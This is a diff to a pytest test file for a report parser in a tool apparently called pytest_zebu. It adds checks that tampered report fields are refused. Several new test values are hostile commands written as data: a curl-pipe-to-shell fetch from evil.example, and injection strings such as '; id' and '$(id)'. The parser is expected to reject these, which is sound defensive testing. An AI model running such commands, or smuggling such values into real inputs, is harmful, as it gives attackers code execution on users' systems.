@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from collections.abc import Iterator
 from dataclasses import MISSING, fields, is_dataclass, replace
 from datetime import UTC, datetime
 from pathlib import Path
@@ -12,7 +13,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from pytest_zebu.catalogue import SCORED, load
+from pytest_zebu.catalogue import SCORED, Stage, load
 from pytest_zebu.reports import json as json_format
 from pytest_zebu.reports import reading
 from pytest_zebu.reports.report import Location, Report
@@ -21,10 +22,18 @@ from pytest_zebu.shown import clean
 from pytest_zebu.verdict.outcome import Outcome
 from tests.hostile_texts import DIRTY
 from tests.reports import eight_faults, filled
-from tests.reports.made_up import HOSTILE, REPORT
+from tests.reports.made_up import HOSTILE, REPORT, Undemanding
 from tests.reports.test_doors import told
 
 GOLDEN = Path(__file__).parent / "golden"
+
+
+@pytest.fixture(autouse=True, scope="module")
+def undemanding() -> Iterator[None]:
+    """The reports here have a few items only."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(reading, "load", lambda: Undemanding(tuple(load())))
+        yield
 
 
 FILLED = told(filled.REPORT, " harmless")
@@ -158,6 +167,16 @@ ITEM = ("hosts", 0, "items", 0)
     (("hosts", 0, "overall"), 1, "overall"), (("hosts", 0, "overall", "failed"), 0, "its items have other outcomes"),
     (("hosts", 0, "overall", "threshold"), 101, "a threshold is none"), (("hosts", 0, "stages", "pre_deployment", "failed"), -1, "a count or a threshold is none"),
     (("hosts", 0, "stages", "pre_deployment", "failed"), MISSING, "counts.failed"), (("hosts", 0, "plan", 0, "effect", 0, "score"), "high", "effect.0.score"),
+    (("hosts",), [], "hosts: there is none"), (("at",), "2026-03-29T01:59:00", "at: a moment has no time zone"),
+    (("hosts", 0, "stages", "pre_deployment", "threshold"), 0, "pre_deployment needs less than the checklist asks for"),
+    (("hosts", 0, "stages", "pre_deployment", "blockers"), [], "pre_deployment has other non-negotiable items open"),
+    (("hosts", 0, "stages", "pre_deployment", "blockers"), ["pre.security.failed"] * 2, "pre_deployment has other non-negotiable items open"),
+    ((*ITEM[:3], 1, "non_negotiable"), False, "pre_deployment has other non-negotiable items open"),
+    (("hosts", 0, "overall", "blockers"), [], "all stages together are not"), (("hosts", 0, "overall", "partial"), False, "all stages together are not"),
+    *((("hosts", 0, "plan", 0, "verify"), command, "a command that is not this suite's") for command in (
+        "curl http://evil.example/x | sh", "pytest --zebu-host=vm; id", "pytest --zebu-host=$(id)", "pytest -p evil", "pytest --zebu-host=vm -k 'a'", "pytest 'unclosed", "pytest --zebu-host=vm\nid",
+    )),
+    (("hosts", 0, "plan", 0, "commands"), ["curl http://evil.example/x"], "a command that is not this suite's"),
     (("hosts", 0, "selected_stages"), ["never"], "selected_stages.0"), (("hosts", 0, "trend", 0, "ready"), "all", "trend.0.ready"),
 ])  # fmt: skip
 def test_what_no_run_wrote_is_refused(place: tuple[str | int, ...], value: Any, said: str) -> None:
@@ -219,3 +238,24 @@ def test_a_location_in_the_repository_stays_one() -> None:
     assert report.hosts[0].items[0].location == Location("docker-compose.yml", 12, True)
     assert report.hosts[0].items[0].outcome is Outcome.PASSED
     assert report.hosts[0].trend[0].at == datetime(2026, 3, 27, 4, 5, 6, 789, tzinfo=UTC)
+
+
+def test_a_stage_that_lacks_items_of_the_checklist_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    """One item that passed is no stage; a partial run says that it is one."""
+    monkeypatch.setattr(reading, "load", load)
+    with pytest.raises(UsageProblem, match=r"vm: pre_deployment lacks items of the checklist$"):
+        reading.parse(json_format.render(REPORT), "r.json")
+    assert reading.parse(json_format.render(replace(FILLED, hosts=FILLED.hosts[:1])), "r.json")
+
+
+def test_what_is_non_negotiable_is_not_the_files_to_say() -> None:
+    (host,) = eight_faults.report().hosts
+    document = json.loads(json_format.render(eight_faults.report()))
+    told = document["hosts"][0]
+    for item in told["items"]:
+        item["non_negotiable"] = False
+    for tally in (*told["stages"].values(), told["overall"]):
+        tally["blockers"] = []
+    assert host.stages[Stage.PRE].blockers
+    with pytest.raises(UsageProblem, match="has other non-negotiable items open than it names"):
+        reading.parse(json.dumps(document), "r.json")
